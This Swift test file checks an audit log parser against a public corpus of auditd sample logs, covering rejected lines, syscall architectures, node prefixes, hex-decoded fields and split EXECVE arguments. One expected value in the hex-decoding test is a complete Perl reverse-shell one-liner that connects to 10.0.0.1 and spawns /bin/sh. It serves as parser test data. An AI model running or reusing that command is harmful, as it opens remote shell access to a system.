import TestSupport
import Testing

@testable import AuditreeEvents
@testable import AuditreeParser

/// Our parser over the public corpus in `../shared/corpus/public` (see its INDEX.md).
/// The corpus is never copied into the repository: without it these tests skip.
@Suite("Public corpus")
struct CorpusTests {
    /// Lines that look like records (`type=`/`node=` ... `msg=audit(`) yet are not
    /// kernel/auditd raw records, so rejecting them is right. Keyed by corpus file,
    /// then line number, with the rejection kind we expect and why.
    static let knownMalformed: [String: [Int: (kind: RejectReason.Kind, reason: String)]] = [
        "elastic__beats/filebeat__module__auditd__log__test__test.log": [
            12: (
                .malformedField,
                "ausearch -i output, not a raw log: arch=x86_64 syscall=execve auid=vagrant are interpreted names"
            )
        ]
    ]

    @Test("the corpus folder holds files", .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage))
    func corpusHasFiles() {
        #expect(TestPaths.corpusFiles.count > 100, "expected the ~124 files INDEX.md lists")
    }

    @Test(
        "every non-blank line is parsed or rejected; record lines are parsed",
        .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage),
        arguments: TestPaths.corpusFiles)
    func everyLineAccountedFor(file: String) throws {
        let path = TestPaths.corpus(file)
        let parsed = try ParsedLog(path: path)
        let raw = try RawLines(path: path)

        #expect(parsed.truncatedLines.isEmpty)
        #expect(parsed.lineCount == raw.lines.count)
        #expect(
            parsed.records.count + parsed.rejections.count == raw.nonBlankCount,
            "parsed \(parsed.records.count) + rejected \(parsed.rejections.count) != \(raw.nonBlankCount) non-blank lines"
        )
        #expect(parsed.blankLines == raw.lines.count - raw.nonBlankCount)

        let known = Self.knownMalformed[file] ?? [:]
        for number in raw.recordLikeLineNumbers {
            if let expected = known[number] {
                let rejection = parsed.rejections[number]
                #expect(
                    rejection?.reason.kind == expected.kind, "\(file):\(number) is known malformed (\(expected.reason))"
                )
                continue
            }
            if let rejection = parsed.rejections[number] {
                Issue.record(
                    "\(file):\(number) looks like a record but was rejected: \(rejection.reason) at column \(rejection.column)"
                )
            }
            #expect(parsed.records[number]?.line == number)
        }
        // Every entry of the known list must still be there and still rejected.
        for (number, _) in known {
            #expect(raw.recordLikeLineNumbers.contains(number), "\(file):\(number) no longer looks like a record")
        }
    }

    // MARK: - Known quirks (values read from the files)

    struct Rejected: Sendable, CustomTestStringConvertible {
        var file: String, line: Int, kind: RejectReason.Kind, why: String
        var testDescription: String { "\(file):\(line) \(kind.rawValue)" }
    }

    @Test(
        "non-records are rejected with the right reason",
        .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage),
        arguments: [
            Rejected(
                file: "elastic__go-libaudit/auparse__testdata__audit-rhel7.log", line: 31, kind: .missingTimestamp,
                why: "type=UNKNOWN[1329] msg=? has no stamp"),
            Rejected(
                file: "elastic__beats/filebeat__module__auditd__log__test__test.log", line: 12, kind: .malformedField,
                why: "interpreted (ausearch -i) SYSCALL: arch=x86_64"),
            Rejected(
                file: "threathunters-io__laurel/src__testdata__shell-proc-trace.txt", line: 1, kind: .notAnAuditRecord,
                why: "# comment line"),
        ])
    func rejected(_ testCase: Rejected) throws {
        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
        let rejection = try #require(parsed.rejections[testCase.line], "\(testCase.why)")
        #expect(rejection.reason.kind == testCase.kind, "\(testCase.why)")
        #expect(parsed.records[testCase.line] == nil)
    }

    struct Arch: Sendable, CustomTestStringConvertible {
        var file: String, line: Int, arch: UInt32, number: Int, kind: SyscallKind, machine: String
        var testDescription: String { "\(machine) syscall \(number) at \(file):\(line)" }
    }

    @Test(
        "arch= values resolve through libaudit",
        .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage),
        arguments: [
            Arch(
                file: "threathunters-io__laurel/src__testdata__fork-sleep-exec.txt", line: 19,
                arch: 0xC000_00B7, number: 221, kind: .execve, machine: "aarch64"),
            Arch(
                file: "threathunters-io__laurel/src__testdata__fork-sleep-exec.txt", line: 22,
                arch: 0xC000_00B7, number: 220, kind: .clone, machine: "aarch64"),
            Arch(
                file: "SELinuxProject__selinux/python__sepolgen__tests__test_data__httpd.log", line: 3154,
                arch: 0x4000_0003, number: 11, kind: .execve, machine: "i386"),
            Arch(
                file: "threathunters-io__laurel/src__testdata__record-bind-ipv4-bigendian.txt", line: 1,
                arch: 0x8000_0015, number: 327, kind: .other, machine: "ppc64"),
            Arch(
                file: "threathunters-io__laurel/src__testdata__record-execve.txt", line: 1,
                arch: 0xC000_003E, number: 59, kind: .execve, machine: "x86_64"),
        ])
    func archResolves(_ testCase: Arch) throws {
        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
        let record = try #require(parsed.records[testCase.line])
        guard case .syscall(let syscall) = record.body else {
            Issue.record("\(testCase.file):\(testCase.line) is not a SYSCALL record")
            return
        }
        #expect(syscall.arch == testCase.arch)
        #expect(syscall.number == testCase.number)
        #expect(syscall.syscall == testCase.kind)
        #expect(SyscallKind.resolve(arch: syscall.arch, number: syscall.number) == testCase.kind)
        #expect(SyscallKind.machineName(arch: syscall.arch) == testCase.machine)
    }

    struct Node: Sendable, CustomTestStringConvertible {
        var file: String, node: String, lines: Int
        var testDescription: String { "node=\(node) in \(file)" }
    }

    @Test(
        "node= prefixes are kept on every record",
        .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage),
        arguments: [
            Node(
                file: "linux-audit__audit-userspace/auparse__test__test3.log", node: "auditdtest.a1959.org", lines: 15),
            Node(file: "threathunters-io__laurel/src__testdata__record-execve.txt", node: "work", lines: 7),
            Node(
                file: "elastic__beats/filebeat__module__auditd__log__test__audit-cent7-node.log",
                node: "localhost.localdomain", lines: 10),
        ])
    func nodePrefix(_ testCase: Node) throws {
        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
        #expect(parsed.rejections.isEmpty)
        #expect(parsed.records.count == testCase.lines)
        for (number, record) in parsed.records {
            #expect(record.node == testCase.node, "line \(number)")
        }
    }

    struct Decoded: Sendable, CustomTestStringConvertible {
        var file: String, line: Int, field: String, value: String
        var testDescription: String { "\(field) at \(file):\(line)" }
    }

    @Test(
        "hex-encoded values are decoded",
        .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage),
        arguments: [
            // exe=2F7573722F62696E2F707974686F6E322E373B3538643163636662202864656C6574656429
            Decoded(
                file: "elastic__go-libaudit/testdata__normal.log", line: 1, field: "exe",
                value: "/usr/bin/python2.7;58d1ccfb (deleted)"),
            Decoded(
                file: "elastic__beats/filebeat__module__auditd__log__test__test.log", line: 2, field: "exe",
                value: "/usr/libexec/strongswan/charon (deleted)"),
            // a2=6563686F205C22... in a file without a final newline
            Decoded(
                file: "elastic__beats/filebeat__module__auditd__log__test__execve-hex-arg.log", line: 1, field: "a2",
                value: #"echo \"arg hex encoded\""#),
            Decoded(
                file: "threathunters-io__laurel/src__testdata__record-perl-reverse-shell.txt", line: 2, field: "a2",
                value:
                    #"use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#
            ),
        ])
    func hexDecoded(_ testCase: Decoded) throws {
        let parsed = try ParsedLog(path: TestPaths.corpus(testCase.file))
        let record = try #require(parsed.records[testCase.line])
        let value: LogString?
        switch (record.body, testCase.field) {
        case (.syscall(let syscall), "exe"): value = syscall.exe
        case (.execve(let execve), let field) where field.hasPrefix("a"):
            let index = Int(field.dropFirst())
            value = execve.arguments.first { $0.index == index && $0.chunk == nil }?.value
        default: value = nil
        }
        #expect(value == LogString(testCase.value))
    }

    @Test(
        "a malformed display id (ses=4296967295) leaves the SYSCALL record in place",
        .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage))
    func malformedIdKeepsRecord() throws {
        // Line 9: ... pid=818 auid=4292467295 uid=502 ... ses=4296967295 comm="cat" exe="/usr/bin/cat" ...
        let parsed = try ParsedLog(
            path: TestPaths.corpus("threathunters-io__laurel/src__testdata__record-syscall-nullkey.txt"))
        let record = try #require(parsed.records[9])
        guard case .syscall(let syscall) = record.body else {
            Issue.record("line 9 is not a SYSCALL record")
            return
        }
        #expect(syscall.ses == nil)
        #expect(syscall.auid == 4_292_467_295)
        #expect(syscall.uid == 502)
        #expect(syscall.pid == 818)
        #expect(syscall.ppid == 816)
        #expect(syscall.number == 4)
        #expect(syscall.comm == "cat")
        #expect(syscall.exe == "/usr/bin/cat")
        #expect(record.stamp == EventStamp(seconds: 1_678_283_440, milliseconds: 683, serial: 225))
    }

    @Test(
        "a split argument (a1_len, a1[0..2] over three EXECVE records) is rebuilt whole",
        .enabled(if: TestPaths.corpusAvailable, TestPaths.corpusSkipMessage))
    func splitArgument() throws {
        let parsed = try ParsedLog(
            path: TestPaths.corpus("threathunters-io__laurel/src__testdata__record-execve-long.txt"))
        #expect(parsed.rejections.isEmpty)
        let execves: [ExecveRecord] = (1...parsed.lineCount).compactMap { number in
            if case .execve(let body)? = parsed.records[number]?.body { return body }
            return nil
        }
        try #require(execves.count == 3)
        // Line 2: argc=2 a0="/bin/echo" a1_len=16384 a1[0]=<7464 hex digits>
        #expect(execves[0].argc == 2)
        #expect(execves[0].splitLengths.count == 1)
        #expect(execves[0].splitLengths.first?.index == 1)
        #expect(execves[0].splitLengths.first?.length == 16384)
        // Lines 3 and 4: a1[1]=<7492 hex digits>, a1[2]=<1428 hex digits>
        #expect(execves.map { $0.arguments.last?.chunk } == [0, 1, 2])
        #expect(execves.map { $0.arguments.last?.value.bytes.count } == [3732, 3746, 714])

        let argv = ArgumentVector(execves)
        #expect(argv.isComplete)
        try #require(argv.arguments.count == 2)
        #expect(argv.arguments[0] == "/bin/echo")
        let long = argv.arguments[1].bytes
        // a1_len counts the hex form: 16384 hex digits = 8192 bytes.
        #expect(long.count == 16384 / 2)
        #expect(long.first == UInt8(ascii: "b"))  // a1[0] starts 6261...
        #expect(long[3732] == UInt8(ascii: "d"))  // a1[1] starts 6461...
        #expect(long[3732 + 3746] == UInt8(ascii: "f"))  // a1[2] starts 6661...
        #expect(long.allSatisfy { $0 >= 0x61 && $0 <= 0x7A })
    }
}
